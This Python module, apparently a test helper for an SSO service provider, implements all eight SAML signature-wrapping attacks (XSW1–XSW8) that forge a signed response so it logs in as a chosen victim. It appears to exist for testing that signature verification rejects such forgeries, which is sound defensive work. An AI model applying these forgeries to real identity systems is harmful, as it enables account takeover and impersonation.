"""The eight signature-wrapping attacks on SAML (XSW1 to XSW8).

Each moves a validly signed piece to where a careless reader no longer looks, and puts a forged one
where it does. After Somorovsky et al., “On Breaking SAML”, 2012.
"""

import copy
import uuid

from lxml import etree

from tests.sso.identity_provider import NS, SAML, SAMLP

VARIANTS = range(1, 9)


def wrapped(response: bytes, variant: int, *, victim: str) -> bytes:
    """Return the response forged for `victim` by one of the variants."""
    root = etree.fromstring(response)
    assertion = root.find("saml:Assertion", NS)
    forged = _forged(assertion, victim)
    if variant in (1, 2):
        return etree.tostring(_around_response(root, assertion, forged, variant))
    signature = forged.find("ds:Signature", NS)
    forged.remove(signature)
    _around_assertion(root, assertion, forged, signature, variant)
    return etree.tostring(root)


def _forged(assertion: etree._Element, victim: str) -> etree._Element:
    forged = copy.deepcopy(assertion)
    forged.set("ID", f"_evil{uuid.uuid4().hex}")
    for value in forged.iter(f"{{{SAML}}}AttributeValue"):
        if "@" in (value.text or ""):
            value.text = victim
    for name in forged.iter(f"{{{SAML}}}NameID"):
        name.text = "victim"
    return forged


def _around_response(
    root: etree._Element, assertion: etree._Element, forged: etree._Element, variant: int
) -> etree._Element:
    original = copy.deepcopy(root)
    signature = root.find("ds:Signature", NS)
    original.remove(original.find("ds:Signature", NS))
    root.set("ID", "_evil-response")
    root.replace(assertion, forged)
    own = forged.find("ds:Signature", NS)
    if own is not None:
        forged.remove(own)
    if variant == 1:
        signature.append(original)
    else:
        signature.addprevious(original)
    return root


def _around_assertion(
    root: etree._Element,
    assertion: etree._Element,
    forged: etree._Element,
    signature: etree._Element,
    variant: int,
) -> None:
    bare = copy.deepcopy(assertion)
    bare.remove(bare.find("ds:Signature", NS))
    if variant == 3:
        assertion.addprevious(forged)
    elif variant == 4:
        root.replace(assertion, forged)
        forged.append(assertion)
    elif variant == 5:
        forged.insert(1, signature)
        root.replace(assertion, forged)
        root.append(bare)
    elif variant == 6:
        signature.append(bare)
        forged.insert(1, signature)
        root.replace(assertion, forged)
    elif variant == 7:
        extensions = etree.Element(f"{{{SAMLP}}}Extensions")
        assertion.addprevious(extensions)
        extensions.append(forged)
    else:
        holder = etree.SubElement(signature, f"{{{NS['ds']}}}Object")
        holder.append(bare)
        forged.insert(1, signature)
        root.replace(assertion, forged)
